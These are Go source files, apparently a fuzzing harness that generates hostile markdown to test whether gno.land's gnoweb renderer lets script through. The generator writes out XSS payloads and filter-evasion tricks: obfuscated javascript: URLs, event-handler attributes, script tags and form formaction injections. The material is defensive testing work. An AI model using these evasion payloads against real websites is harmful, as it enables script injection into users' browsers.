			om := r.Perm(len(keyPool) - 1)[:1+r.IntN(5)]
			sort.Ints(om)
			old := vset{Members: om}
			for range om {
				old.Powers = append(old.Powers, 1+r.Int64N(4))
			}
			s.Old = &old
		}
		for k := r.IntN(3); k > 0; k-- {
			cr := corruptions[r.IntN(len(corruptions))]
			var present []int
			for p, e := range s.Entries {
				if e.Present {
					present = append(present, p)
				}
			}
			p := 0
			if cr.perEntry {
				if len(present) == 0 {
					continue
				}
				p = present[r.IntN(len(present))]
			} else if len(s.Entries) == 0 {
				continue
			}
			if cr.apply(s, p) {
				s.Kind += "+" + cr.name
			}
		}
		check(c, tl, sc, s, sets)
		if i < 3 {
			c.Sample(s)
		}
	})

	c.Assume("crypto/ed25519 (standard library) validates the harness's construction knowledge of which signatures are valid; Vote.SignBytes is trusted as the canonical encoding")
	c.Assume("well-formedness follows Commit.ValidateBasic and the documented checks of VerifyCommit, including that every entry carries the index and address of the slot it occupies")
	c.RequireCounter("calls_VerifyCommit", 20000)
	c.RequireCounter("calls_VerifyFutureCommit", 3000)
	c.RequireCounter("accepted_VerifyCommit", 1000)
	c.RequireCounter("accepted_VerifyFutureCommit", 200)
	c.RequireCounter("future_forged_address", 50)
	for _, why := range []string{"accept", "power", "old-power", "signature", "size", "no-precommits", "nil-block-commit", "wrong-block-id", "type", "height", "round"} {
		c.RequireCounter("oracle_"+why, 20)
	}
	for _, cr := range corruptions {
		if cr.name == "address-forged-old" {
			c.RequireCounter("kind_future/"+cr.name, 50)
			continue
		}
		c.RequireCounter("kind_"+cr.name, 5)
	}
}
