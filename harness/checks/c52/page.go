package c52

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"

	"github.com/gnolang/gno/gno.land/pkg/gnoweb"
	"github.com/gnolang/gno/gnovm/pkg/doc"
)

// stubClient is the ONLY fake on the page path: the chain data source.
// Realm() returns the generated markdown registered for the requested path.
type stubClient struct{ docs sync.Map }

var _ gnoweb.ClientAdapter = (*stubClient)(nil)

func (s *stubClient) Realm(_ context.Context, path, _ string) ([]byte, error) {
	if v, ok := s.docs.Load("/" + strings.Trim(path, "/")); ok {
		return []byte(v.(string)), nil
	}
	return nil, gnoweb.ErrClientPackageNotFound
}
func (s *stubClient) File(context.Context, string, string, int64) ([]byte, gnoweb.FileMeta, error) {
	return nil, gnoweb.FileMeta{}, gnoweb.ErrClientFileNotFound
}
func (s *stubClient) ListFiles(context.Context, string, int64) ([]string, error) {
	return nil, gnoweb.ErrClientPackageNotFound
}
func (s *stubClient) ListPaths(context.Context, string, int) ([]string, error) { return nil, nil }
func (s *stubClient) Doc(context.Context, string, int64) (*doc.JSONDocumentation, error) {
	return nil, gnoweb.ErrClientPackageNotFound
}
func (s *stubClient) StatePkg(context.Context, string, int64) ([]byte, error) {
	return nil, gnoweb.ErrClientPackageNotFound
}
func (s *stubClient) StateObject(context.Context, string, int64) ([]byte, error) {
	return nil, gnoweb.ErrClientObjectNotFound
}
func (s *stubClient) StateType(context.Context, string, int64) ([]byte, error) {
	return nil, gnoweb.ErrClientObjectNotFound
}

type pageHarness struct {
	handler  http.Handler
	client   *stubClient
	baseline map[string]int // oracle finding keys present in the chrome of a benign page
	baseElem map[string]int
}

func newPageHarness(h *harness) (*pageHarness, error) {
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	cfg := gnoweb.NewDefaultAppConfig()
	cli := &stubClient{}
	// StaticMetadata as NewRouter builds it from the default config
	meta := gnoweb.StaticMetadata{Domain: cfg.Domain, AssetsPath: "/public/", ChromaPath: "/public/_chroma/style.css", RemoteHelp: cfg.RemoteHelp, ChainId: "dev", BuildTime: "20260101000000"}
	hh, err := gnoweb.NewHTTPHandler(logger, &gnoweb.HTTPHandlerConfig{ClientAdapter: cli, Meta: meta, Renderer: h.rd, Aliases: map[string]gnoweb.AliasTarget{}, Timeout: cfg.NodeRequestTimeout})
	if err != nil {
		return nil, err
	}
	p := &pageHarness{handler: hh, client: cli}
	body, status := p.get("/r/c52/base", "hello *world*\n\n## section\n\ntext")
	if status != 200 {
		return nil, fmt.Errorf("baseline page status %d", status)
	}
	fs, st := scan(body, nil, policy{})
	p.baseline = map[string]int{}
	for _, f := range fs {
		p.baseline[f.Key]++
	}
	p.baseElem = st.elements
	return p, nil
}

func (p *pageHarness) get(path, md string) (body []byte, status int) {
	p.client.docs.Store(path, md)
	defer p.client.docs.Delete(path)
	// retry on renderer panics (shared-Caser race, see evaluate)
	for try := 0; try < 6; try++ {
		ok := func() (ok bool) {
			defer func() {
				if r := recover(); r != nil {
					ok = false
				}
			}()
			req := httptest.NewRequest(http.MethodGet, path, nil)
			rec := httptest.NewRecorder()
			p.handler.ServeHTTP(rec, req)
			body, status = rec.Body.Bytes(), rec.Code
			return true
		}()
		if ok {
			return body, status
		}
	}
	return nil, 0
}

func pageRelevant(key string) bool {
	for _, p := range []string{"forbidden-element:", "event-attr:", "js-url:", "vbs-url:", "file-url:", "data-url:", "data-image-url:", "raw-passthrough:"} {
		if strings.HasPrefix(key, p) && key != "raw-passthrough:doctype" {
			return true
		}
	}
	return false
}

// runPages serves a sample of documents through the real HTTP handler and
// scans the WHOLE page: relative to the chrome of a benign page, no extra
// script-capable element, event attribute, script-capable URL or canary.
func runPages(h *harness, seeds []seed, n, workers int) {
	c := h.c
	p, err := newPageHarness(h)
	if err != nil {
		c.Inconclusive("page harness: " + err.Error())
		return
	}
	h.page = p
	c.Set("page_chrome_baseline_keys", p.baseline)
	c.Parallel(n, workers, 5_000_000, func(i int, rng *rand.Rand) {
		g := newGen(rng)
		var md string
		switch {
		case i < len(fixedDocs):
			md = fixedDocs[i]
		case i%3 == 0:
			md = mutate(g, seeds, seeds[i%len(seeds)].data)
		default:
			md = g.doc()
		}
		path := fmt.Sprintf("/r/c52/d%d", i)
		body, status := p.get(path, md)
		c.Count("pages_served", 1)
		c.Count(fmt.Sprintf("page_status:%d", status), 1)
		fs, st := scan(body, g.canaries, policy{})
		nt := st.urlAttrs > 0
		c.Case(modePage+"\x00"+md, nt)
		cnt := map[string]int{}
		first := map[string]finding{}
		for _, f := range fs {
			if !pageRelevant(f.Key) {
				continue
			}
			if _, ok := first[f.Key]; !ok {
				first[f.Key] = f
			}
			cnt[f.Key]++
		}
		for k, v := range cnt {
			if v <= p.baseline[k] {
				continue
			}
			f := first[k]
			// chrome occurrences come first in document order only for head elements; report the last offending token instead
			for _, x := range fs {
				if x.Key == k {
					f = x
				}
			}
			c.Violation(k, map[string]any{"path": modePage, "url": path, "input": inputWitness(md), "offending_token": f.Token, "count": v, "chrome_baseline": p.baseline[k]},
				"served page has %d x %s (benign-page chrome has %d): %s | input %q", v, k, p.baseline[k], f.Detail, clip(md, 300))
		}
	})
	c.Logf("page path done: %d pages", n)
}
