package c52

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// canary is a unique element or attribute name planted in the document as raw HTML.
type canary struct {
	name string // lower-case
	ctx  string // where it was planted (names the vector in a violation key)
}

// gen is a grammar-based generator of hostile markdown documents.
type gen struct {
	r        *rand.Rand
	canaries []canary
	feats    map[string]int // constructs planted (evidence)
	foreign  int            // nesting inside <gno-foreign>
	budget   int            // remaining block budget
	docMode  bool           // doc-context syntax extras (heading attributes)
	refs     []string       // link reference labels defined
	tag      string         // per-document unique hex tag
	nCan     int
}

func newGen(r *rand.Rand) *gen {
	return &gen{r: r, feats: map[string]int{}, budget: 6 + r.IntN(30), tag: fmt.Sprintf("%06x", r.Uint32()&0xffffff)}
}

func (g *gen) feat(s string) { g.feats[s]++ }

func (g *gen) ctxName(ctx string) string {
	if g.foreign > 0 {
		return "foreign/" + ctx
	}
	return ctx
}

// newCanary registers a fresh unique name; kind 'x' element, 'z' attribute.
func (g *gen) newCanary(kind byte, ctx string) string {
	g.nCan++
	name := fmt.Sprintf("%ccn%s%d", kind, g.tag, g.nCan)
	g.canaries = append(g.canaries, canary{name: name, ctx: g.ctxName(ctx)})
	// random letter case in the document: the tokenizer folds names to lower case
	switch g.r.IntN(4) {
	case 0:
		return strings.ToUpper(name)
	case 1:
		return strings.ToUpper(name[:1]) + name[1:]
	}
	return name
}

// inst instantiates XCANARY / ZCANARY placeholders of a dictionary entry.
func (g *gen) inst(s, ctx string) string {
	for strings.Contains(s, "XCANARY") {
		s = strings.Replace(s, "XCANARY", g.newCanary('x', ctx), 1)
	}
	for strings.Contains(s, "ZCANARY") {
		s = strings.Replace(s, "ZCANARY", g.newCanary('z', ctx), 1)
	}
	return s
}

func pick[T any](r *rand.Rand, s []T) T { return s[r.IntN(len(s))] }

func (g *gen) chance(pct int) bool { return g.r.IntN(100) < pct }

// ---------------------------------------------------------------- URLs

func randCase(r *rand.Rand, s string) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'a' && c <= 'z' && r.IntN(2) == 0 {
			b[i] = c - 32
		}
	}
	return string(b)
}

func entityOf(r *rand.Rand, c byte) string {
	switch r.IntN(7) {
	case 0:
		return fmt.Sprintf("&#%d;", c)
	case 1:
		return fmt.Sprintf("&#x%x;", c)
	case 2:
		return fmt.Sprintf("&#X%X;", c)
	case 3:
		return fmt.Sprintf("&#%07d;", c)
	case 4:
		return fmt.Sprintf("&#x%06x;", c)
	case 5:
		if c == ':' {
			return "&colon;"
		}
		return fmt.Sprintf("&#%d;", c)
	default:
		return fmt.Sprintf("%%%02x", c) // percent-encoding (not an entity; browsers do not decode it in the scheme)
	}
}

var insertables = []string{"\t", "\n", "\r", "\x00", "&#9;", "&#10;", "&#13;", "&Tab;", "&NewLine;", "&#0;", "&#x9;", "\u200b", "\u00ad", "&shy;", "&ZeroWidthSpace;", "\\", "%09", "%0a", " "}
var prefixes = []string{" ", "\t", "\x01", "\x1f", "\x00", "&#1;", "&#31;", "&#32;", "&#9;", "&nbsp;", "%20", "%09", "\u00a0", "\ufeff", "\u2028", "&Tab;", "&NewLine;", "\x7f", "&#x1b;", "\x0c", "&#12;"}

// hostileURL builds an obfuscated script-capable URL; mask describes the obfuscations used.
func (g *gen) hostileURL() string {
	r := g.r
	sb := pick(r, schemeBodies)
	scheme := sb.scheme + ":"
	nops := r.IntN(4)
	if r.IntN(5) == 0 {
		nops = 0
	}
	for k := 0; k < nops; k++ {
		switch r.IntN(8) {
		case 0:
			scheme = randCase(r, scheme)
			g.feat("url:case")
		case 1: // entity / percent encode one byte of the scheme (or the colon)
			i := r.IntN(len(scheme))
			if scheme[i] < 0x80 && scheme[i] != '&' && scheme[i] != ';' && scheme[i] != '#' {
				scheme = scheme[:i] + entityOf(r, scheme[i]) + scheme[i+1:]
				g.feat("url:entity")
			}
		case 2: // insert something inside the scheme
			i := r.IntN(len(scheme))
			scheme = scheme[:i] + pick(r, insertables) + scheme[i:]
			g.feat("url:insert")
		case 3:
			scheme = pick(r, prefixes) + scheme
			g.feat("url:prefix")
		case 4: // backslash escape of the colon or of a letter
			if i := strings.LastIndexByte(scheme, ':'); i >= 0 && r.IntN(2) == 0 {
				scheme = scheme[:i] + "\\" + scheme[i:]
			} else {
				i := r.IntN(len(scheme))
				scheme = scheme[:i] + "\\" + scheme[i:]
			}
			g.feat("url:backslash")
		case 5: // unicode look-alike
			i := r.IntN(len(scheme))
			if alts, ok := lookalikes[scheme[i]]; ok {
				scheme = scheme[:i] + pick(r, alts) + scheme[i+1:]
				g.feat("url:lookalike")
			}
		case 6: // double encoding of an entity
			i := r.IntN(len(scheme))
			if scheme[i] < 0x80 && scheme[i] != '&' {
				scheme = scheme[:i] + fmt.Sprintf("&amp;#%d;", scheme[i]) + scheme[i+1:]
				g.feat("url:double-entity")
			}
		case 7: // entity without semicolon / upper-case named
			i := r.IntN(len(scheme))
			if scheme[i] < 0x80 && scheme[i] != '&' {
				scheme = scheme[:i] + fmt.Sprintf("&#%d", scheme[i]) + scheme[i+1:]
				g.feat("url:entity-nosemi")
			}
		}
	}
	g.feat("url:hostile")
	return scheme + sb.rest
}

func (g *gen) url() string {
	if g.chance(30) {
		u := pick(g.r, benignURLs)
		g.feat("url:benign")
		return u
	}
	return g.hostileURL()
}

// dest wraps a URL as a CommonMark link destination.
func (g *gen) dest(u string) string {
	needAngle := strings.ContainsAny(u, " \t()") || u == ""
	if strings.ContainsAny(u, "\n\r") {
		if g.chance(50) {
			u = strings.NewReplacer("\n", "&#10;", "\r", "&#13;").Replace(u)
		}
	}
	if needAngle || g.chance(25) {
		if g.chance(85) {
			return "<" + strings.NewReplacer("<", "\\<", ">", "\\>").Replace(u) + ">"
		}
		return "<" + u + ">"
	}
	return u
}

func (g *gen) title() string {
	if g.chance(40) {
		return ""
	}
	t := g.attrText("link-title")
	switch g.r.IntN(3) {
	case 0:
		return ` "` + strings.ReplaceAll(t, `"`, pick(g.r, []string{`\"`, `&quot;`, `"`})) + `"`
	case 1:
		return ` '` + strings.ReplaceAll(t, `'`, pick(g.r, []string{`\'`, `&#39;`, `'`})) + `'`
	}
	return ` (` + strings.NewReplacer("(", `\(`, ")", `\)`).Replace(t) + `)`
}

// attrText is hostile text destined for an attribute-ish position.
func (g *gen) attrText(ctx string) string {
	switch g.r.IntN(10) {
	case 0, 1, 2, 3:
		g.feat("attr-injection")
		return g.inst(pick(g.r, attrInjections), ctx)
	case 4, 5:
		g.feat("attr-rawhtml")
		return g.inst(pick(g.r, rawHTML), ctx)
	case 6:
		return g.hostileURL()
	case 7:
		return g.canaryTag(ctx)
	default:
		return g.plainWords(1 + g.r.IntN(3))
	}
}

func (g *gen) plainWords(n int) string {
	var sb strings.Builder
	for i := 0; i < n; i++ {
		if i > 0 {
			sb.WriteByte(' ')
		}
		sb.WriteString(pick(g.r, words[:16]))
	}
	return sb.String()
}

// canaryTag: a raw HTML tag with a canary element name and a canary attribute.
func (g *gen) canaryTag(ctx string) string {
	g.feat("canary")
	x := g.newCanary('x', ctx)
	z := g.newCanary('z', ctx)
	switch g.r.IntN(6) {
	case 0:
		return fmt.Sprintf("<%s %s=\"1\">", x, z)
	case 1:
		return fmt.Sprintf("<%s %s='v' class=a>t</%s>", x, z, x)
	case 2:
		return fmt.Sprintf("<%s/>", x)
	case 3:
		return fmt.Sprintf("<div %s=1><%s></%s></div>", z, x, x)
	case 4:
		return fmt.Sprintf("<%s\n %s\n>", x, z)
	default:
		return fmt.Sprintf("</%s><%s %s>", x, x, z)
	}
}

// ---------------------------------------------------------------- inlines

func (g *gen) inlines(n, depth int) string {
	var sb strings.Builder
	for i := 0; i < n; i++ {
		if i > 0 {
			sb.WriteString(pick(g.r, []string{" ", " ", " ", "", "  \n", "\\\n", "\n"}))
		}
		sb.WriteString(g.inline(depth))
	}
	return sb.String()
}

func (g *gen) inline(depth int) string {
	r := g.r
	k := r.IntN(20)
	if depth > 2 && k >= 2 && k <= 9 {
		k = 0
	}
	switch k {
	case 0, 1:
		return pick(r, words)
	case 2: // emphasis family
		d := pick(r, []string{"*", "_", "**", "__", "~~", "***", "~"})
		return d + g.inlines(1+r.IntN(2), depth+1) + d
	case 3, 4: // inline link
		g.feat("link:inline")
		return "[" + g.inlines(1+r.IntN(2), depth+1) + "](" + g.dest(g.url()) + g.title() + ")"
	case 5: // reference link
		g.feat("link:reference")
		label := g.refLabel()
		switch r.IntN(3) {
		case 0:
			return "[" + g.inlines(1, depth+1) + "][" + label + "]"
		case 1:
			return "[" + label + "][]"
		}
		return "[" + label + "]"
	case 6, 7: // image
		g.feat("image")
		alt := g.inlines(1, depth+1)
		if g.chance(50) {
			alt = g.attrText("image-alt")
		}
		alt = strings.NewReplacer("[", "\\[", "]", "\\]").Replace(alt)
		if g.chance(20) {
			return "![" + alt + "][" + g.refLabel() + "]"
		}
		return "![" + alt + "](" + g.dest(g.url()) + g.title() + ")"
	case 8: // autolink
		g.feat("autolink")
		u := g.url()
		if g.chance(30) {
			return "<" + pick(r, []string{"a@b.c", "x+y@example.com", "javascript:alert(1)@b.c", "a@b.c\"onx=1", "\"><script>@x.y"}) + ">"
		}
		if g.chance(20) {
			return u // bare (linkify is not enabled by default; must stay text)
		}
		return "<" + u + ">"
	case 9: // code span
		g.feat("codespan")
		t := "`"
		if g.chance(30) {
			t = "``"
		}
		return t + pick(r, []string{g.inst(pick(r, rawHTML), "code-span"), g.inst(pick(r, attrInjections), "code-span"), g.hostileURL(), "x"}) + t
	case 10, 11: // inline raw html
		g.feat("inline-html")
		if g.chance(40) {
			return g.canaryTag("inline-html")
		}
		return g.inst(pick(r, rawHTML), "inline-html")
	case 12: // mention
		g.feat("mention")
		return " " + g.inst(pick(r, mentions), "mention")
	case 13: // attribute injection as plain text
		return g.inst(pick(r, attrInjections), "text")
	case 14: // footnote ref
		g.feat("footnote-ref")
		return "[^" + pick(r, []string{"1", "n", "a-b", "x\"onx=1", "<script>"}) + "]"
	case 15: // html-in-markdown nesting: link whose text is raw html
		g.feat("link:html-text")
		return "[" + g.inst(pick(r, rawHTML), "link-text-html") + "](" + g.dest(g.url()) + ")"
	case 16: // image inside link inside emphasis
		g.feat("link:image-text")
		return "*[![" + g.attrText("image-alt-nested") + "](" + g.dest(g.url()) + ")](" + g.dest(g.url()) + g.title() + ")*"
	case 17: // entity soup
		return pick(r, []string{"&lt;script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&lt;XCN onx=1&gt;", "&amp;lt;"})
	case 18: // gnoweb-specific link shapes
		g.feat("link:gno")
		return "[" + g.plainWords(1) + "](" + pick(r, []string{
			"/r/demo/foo$help&func=" + g.attrText("gno-link-arg"), "$help&func=Render&path=" + g.hostileURL(), "/r/demo/foo:" + g.hostileURL(),
			"?q=" + g.attrText("gno-link-query"), "/r/demo/foo$source&file=" + g.attrText("gno-link-arg"), "/u/" + g.attrText("gno-link-user"), "https://gno.land/r/demo/foo$help&" + g.hostileURL() + "=1",
		}) + ")"
	default:
		return g.plainWords(1 + r.IntN(4))
	}
}

func (g *gen) refLabel() string {
	if len(g.refs) > 0 && g.chance(70) {
		return pick(g.r, g.refs)
	}
	return pick(g.r, []string{"ref1", "Ref 2", "x", "javascript:alert(1)", "r\"onx", "undefined-ref"})
}

// ---------------------------------------------------------------- blocks

func prefixLines(lines []string, first, rest string) []string {
	out := make([]string, len(lines))
	for i, l := range lines {
		if i == 0 {
			out[i] = first + l
		} else {
			out[i] = rest + l
		}
	}
	return out
}

func splitLines(s string) []string { return strings.Split(s, "\n") }

func (g *gen) blocks(n, depth int, top bool) []string {
	var out []string
	for i := 0; i < n && g.budget > 0; i++ {
		g.budget--
		b := g.block(depth, top)
		out = append(out, b...)
		if !g.chance(12) { // mostly blank-line separated; sometimes lazy continuation / interruption
			out = append(out, "")
		}
	}
	return out
}

func (g *gen) block(depth int, top bool) []string {
	r := g.r
	k := r.IntN(24)
	if depth >= 3 && (k >= 3 && k <= 6) {
		k = 0
	}
	switch k {
	case 0, 1: // paragraph
		return splitLines(g.inlines(1+r.IntN(5), 0))
	case 2: // heading
		g.feat("heading")
		txt := strings.ReplaceAll(g.inlines(1+r.IntN(3), 1), "\n", " ")
		attr := ""
		if g.docMode || g.chance(15) {
			g.feat("heading-attr")
			attr = " {" + pick(r, []string{
				"#id1", ".cls", "onclick=\"alert(1)\"", "style=\"position:fixed\"", g.newCanary('z', "heading-attr") + "=1", "#x onmouseover=alert(1)",
				"href=\"javascript:alert(1)\"", "title=\"" + strings.ReplaceAll(g.attrText("heading-attr-title"), "\"", "&quot;") + "\"", "id=\"a\\\" onx=\\\"1\"", "class='a' ONLOAD='1'",
			}) + "}"
		}
		if g.chance(25) {
			return []string{txt + attr, pick(r, []string{"===", "---", "="})}
		}
		return []string{strings.Repeat("#", 1+r.IntN(6)) + " " + txt + attr}
	case 3: // blockquote
		g.feat("blockquote")
		return prefixLines(g.blocks(1+r.IntN(3), depth+1, false), "> ", pick(r, []string{"> ", "> ", ">"}))
	case 4, 5: // list
		g.feat("list")
		var out []string
		ordered := g.chance(40)
		for i, n := 0, 1+r.IntN(3); i < n; i++ {
			m := pick(r, []string{"- ", "* ", "+ "})
			if ordered {
				m = fmt.Sprintf("%d%s ", 1+r.IntN(99), pick(r, []string{".", ")"}))
			}
			if g.chance(30) {
				g.feat("tasklist")
				m += pick(r, []string{"[ ] ", "[x] ", "[X] "})
			}
			item := g.blocks(1+r.IntN(2), depth+1, false)
			out = append(out, prefixLines(item, m, strings.Repeat(" ", len(m)))...)
		}
		return out
	case 6: // alert
		g.feat("alert")
		head := "[!" + pick(r, alertKinds) + "]" + pick(r, []string{"", "-", ""})
		if g.chance(60) {
			head += " " + strings.ReplaceAll(g.inlines(1+r.IntN(2), 1), "\n", " ")
		}
		body := g.blocks(1+r.IntN(2), depth+1, false)
		return prefixLines(append([]string{head}, body...), "> ", "> ")
	case 7, 8: // fenced / indented code
		g.feat("code-block")
		body := []string{g.inst(pick(r, rawHTML), "code-block"), g.inst(pick(r, attrInjections), "code-block"), "func main() { println(\"<b>\") } // </code></pre><script>alert(1)</script>"}
		if g.chance(25) {
			return prefixLines(body, "    ", "    ")
		}
		f := pick(r, []string{"```", "~~~", "````"})
		info := pick(r, langs)
		if g.chance(30) {
			info += " " + g.attrText("code-info")
			if f[0] == '`' {
				info = strings.ReplaceAll(info, "`", "'")
			}
		}
		info = strings.ReplaceAll(info, "\n", " ")
		out := append([]string{f + info}, body...)
		if !g.chance(10) { // sometimes unterminated
			out = append(out, f)
		}
		return out
	case 9, 10: // html block
		g.feat("html-block")
		return g.htmlBlock(depth)
	case 11: // table
		g.feat("table")
		cols := 1 + r.IntN(4)
		row := func() string {
			cells := make([]string, cols)
			for i := range cells {
				cells[i] = strings.NewReplacer("\n", " ", "|", "\\|").Replace(g.inline(1))
			}
			return "| " + strings.Join(cells, " | ") + " |"
		}
		del := make([]string, cols)
		for i := range del {
			del[i] = pick(r, []string{"---", ":---", "---:", ":---:"})
		}
		out := []string{row(), "| " + strings.Join(del, " | ") + " |"}
		for i, n := 0, r.IntN(3); i < n; i++ {
			out = append(out, row())
		}
		return out
	case 12: // thematic break / misc
		return []string{pick(r, []string{"---", "***", "___", "- - -"})}
	case 13: // link reference definition
		g.feat("link-refdef")
		label := fmt.Sprintf("ref%d", len(g.refs)+1)
		if g.chance(20) {
			label = pick(r, []string{"Ref 2", "x", "r\"onx"})
		}
		g.refs = append(g.refs, label)
		t := strings.ReplaceAll(g.title(), "\n\n", "\n")
		return []string{"[" + label + "]: " + g.dest(g.url()) + t}
	case 14: // footnote definition
		g.feat("footnote-def")
		return prefixLines(splitLines(g.inlines(1+r.IntN(2), 1)), "[^"+pick(r, []string{"1", "n", "a-b"})+"]: ", "    ")
	case 15, 16: // form
		g.feat("form")
		return g.form()
	case 17, 18: // columns (top level only takes effect)
		g.feat("columns")
		return g.columns(depth)
	case 19, 20: // foreign sandbox
		g.feat("foreign")
		return g.foreignBlock(depth)
	case 21: // raw attack line(s)
		g.feat("raw-line")
		return splitLines(g.inst(pick(r, rawHTML), "html-block") + pick(r, []string{"", "\n", " trailing *md*"}))
	case 22: // markdown inside html inside markdown
		g.feat("md-in-html")
		x := g.newCanary('x', "md-in-html")
		inner := g.blocks(1, depth+1, false)
		out := []string{"<div " + g.newCanary('z', "md-in-html") + "=1>", ""}
		out = append(out, inner...)
		out = append(out, "", "</div>", "<"+x+">", "")
		out = append(out, g.blocks(1, depth+1, false)...)
		return append(out, "</"+x+">")
	default:
		return splitLines(g.inlines(1+r.IntN(3), 0))
	}
}

func (g *gen) htmlBlock(depth int) []string {
	r := g.r
	payload := g.inst(pick(r, rawHTML), "html-block")
	md := strings.ReplaceAll(g.inline(2), "\n", " ")
	switch r.IntN(9) {
	case 0: // type 1
		t := pick(r, []string{"script", "pre", "style", "textarea", "SCRIPT"})
		return []string{"<" + t + " " + g.newCanary('z', "html-block") + "=1>", "alert(1) // " + md, "", payload, "</" + t + ">"}
	case 1: // type 2 comment
		return []string{"<!-- " + md, payload, "-->" + payload}
	case 2: // type 3
		return []string{"<?php echo '" + payload + "'; ?>" + g.canaryTag("html-block")}
	case 3: // type 4
		return []string{"<!DOCTYPE html " + g.canaryTag("html-block") + ">", payload}
	case 4: // type 5
		return []string{"<![CDATA[", payload, g.canaryTag("html-block"), "]]>" + payload}
	case 5: // type 6
		t := pick(r, []string{"div", "table", "form", "iframe", "details", "p", "h1", "ul", "body", "head", "link", "meta", "base", "section", "DIV"})
		return []string{"<" + t + " onclick=\"alert(1)\" " + g.newCanary('z', "html-block") + "=\"x\">", md, payload, "</" + t + ">"}
	case 6: // type 7
		return []string{g.canaryTag("html-block"), md, payload}
	case 7: // indented / lazy forms
		return []string{"   " + g.canaryTag("html-block"), payload}
	default:
		return []string{payload, g.canaryTag("html-block") + " " + md}
	}
}

func (g *gen) quoteAttr(v string) string {
	v = strings.NewReplacer("\n", pick(g.r, []string{" ", "&#10;", "\\n"})).Replace(v)
	switch g.r.IntN(10) {
	case 0:
		return "'" + strings.ReplaceAll(v, "'", "&#39;") + "'"
	case 1: // unquoted
		return strings.NewReplacer(" ", "&#32;", ">", "&gt;", "\t", "&#9;").Replace(v)
	case 2: // raw, unescaped quotes (breaks the tag on purpose)
		return "\"" + v + "\""
	default:
		return "\"" + strings.ReplaceAll(v, "\"", pick(g.r, []string{"&quot;", "&#34;", "&#x22;"})) + "\""
	}
}

var formNames = []string{"name", "email", "amount", "to_addr", "choice", "bio", "n1", "n2", "x y", "a\"b", "<script>", "on", "__gno_path", "id"}

func (g *gen) fieldValue(ctx string) string {
	if g.chance(25) {
		return g.plainWords(1 + g.r.IntN(2))
	}
	return g.attrText(ctx)
}

func (g *gen) form() []string {
	r := g.r
	open := "<gno-form"
	if g.chance(50) {
		open += " path=" + g.quoteAttr(pick(r, []string{"a/b", "x?y=1", g.fieldValue("form-path"), g.hostileURL()}))
	}
	if g.chance(45) {
		g.feat("form:exec")
		open += " exec=" + g.quoteAttr(pick(r, []string{"Transfer", "CreatePost", "vote_now", g.fieldValue("form-exec")}))
	}
	if g.chance(25) {
		open += " " + pick(r, []string{"action=\"javascript:alert(1)\"", "onsubmit=\"alert(1)\"", g.newCanary('z', "form-tag-attr") + "=\"1\"", "method=get", "target=_top formaction=javascript:alert(1)"})
	}
	open += ">"
	out := []string{open}
	for i, n := 0, r.IntN(6); i < n; i++ {
		var sb strings.Builder
		kind := r.IntN(10)
		switch {
		case kind < 5:
			g.feat("form:input")
			sb.WriteString("<gno-input")
			sb.WriteString(" name=" + g.quoteAttr(pick(r, append(formNames, g.fieldValue("form-input-name")))))
			if g.chance(70) {
				sb.WriteString(" type=" + g.quoteAttr(pick(r, []string{"text", "number", "email", "tel", "password", "radio", "checkbox", "radio", "checkbox", "image", "submit", "hidden", "file", "button", "TEXT", "text\" onfocus=\"alert(1)", g.fieldValue("form-input-type")})))
			}
			if g.chance(60) {
				sb.WriteString(" placeholder=" + g.quoteAttr(g.fieldValue("form-input-placeholder")))
			}
			if g.chance(60) {
				sb.WriteString(" value=" + g.quoteAttr(g.fieldValue("form-input-value")))
			}
			if g.chance(40) {
				sb.WriteString(" description=" + g.quoteAttr(g.fieldValue("form-input-description")))
			}
		case kind < 7:
			g.feat("form:textarea")
			sb.WriteString("<gno-textarea name=" + g.quoteAttr(pick(r, append(formNames, g.fieldValue("form-textarea-name")))))
			if g.chance(60) {
				sb.WriteString(" placeholder=" + g.quoteAttr(g.fieldValue("form-textarea-placeholder")))
			}
			if g.chance(70) {
				sb.WriteString(" value=" + g.quoteAttr(g.fieldValue("form-textarea-value")))
			}
			if g.chance(40) {
				sb.WriteString(" rows=" + g.quoteAttr(pick(r, []string{"3", "0", "99", "-1", "4\" onx=\"1", "x"})))
			}
			if g.chance(40) {
				sb.WriteString(" description=" + g.quoteAttr(g.fieldValue("form-textarea-description")))
			}
		case kind < 9:
			g.feat("form:select")
			sb.WriteString("<gno-select name=" + g.quoteAttr(pick(r, append(formNames[:6], g.fieldValue("form-select-name")))))
			sb.WriteString(" value=" + g.quoteAttr(g.fieldValue("form-select-value")))
			if g.chance(40) {
				sb.WriteString(" description=" + g.quoteAttr(g.fieldValue("form-select-description")))
			}
			if g.chance(30) {
				sb.WriteString(" selected=\"true\"")
			}
		default: // junk inside form
			out = append(out, pick(r, []string{g.canaryTag("form-inner-tag"), g.inst(pick(r, rawHTML), "form-inner-tag"), "plain *markdown* line", "<gno-form>", ""}))
			continue
		}
		for _, b := range []string{"checked", "readonly", "required"} {
			if g.chance(20) {
				sb.WriteString(" " + b + "=" + g.quoteAttr(pick(r, []string{"true", "false", "true\" onx=\"1"})))
			}
		}
		if g.chance(25) {
			sb.WriteString(" " + pick(r, []string{"onfocus=\"alert(1)\"", "autofocus onfocus=alert(1)", g.newCanary('z', "form-field-extra-attr") + "=\"1\"", "formaction=\"javascript:alert(1)\"", "style=\"x\"", "src=\"javascript:alert(1)\"", "ONCLICK=alert(1)"}))
		}
		if g.chance(92) {
			sb.WriteString(" />")
		} else {
			sb.WriteString(">")
		}
		out = append(out, sb.String())
	}
	if !g.chance(8) {
		out = append(out, "</gno-form>")
	}
	return out
}

func (g *gen) columns(depth int) []string {
	r := g.r
	open := pick(r, []string{"<gno-columns>", "<gno-columns>", "<GNO-COLUMNS>", "<gno-columns onclick=\"alert(1)\">", "<gno-columns " + g.newCanary('z', "columns-attr") + "=1>"})
	out := []string{open}
	for i, n := 0, 1+r.IntN(3); i < n; i++ {
		if i > 0 {
			out = append(out, pick(r, []string{"<gno-columns-sep>", "<gno-columns-sep/>", "<gno-columns-sep />", "|||", "<gno-columns-sep class=\"x\" onclick=\"alert(1)\">", "<gno-columns-sep " + g.newCanary('z', "columns-attr") + "=1/>"}))
		}
		out = append(out, g.blocks(1+r.IntN(2), depth+1, false)...)
	}
	if !g.chance(10) {
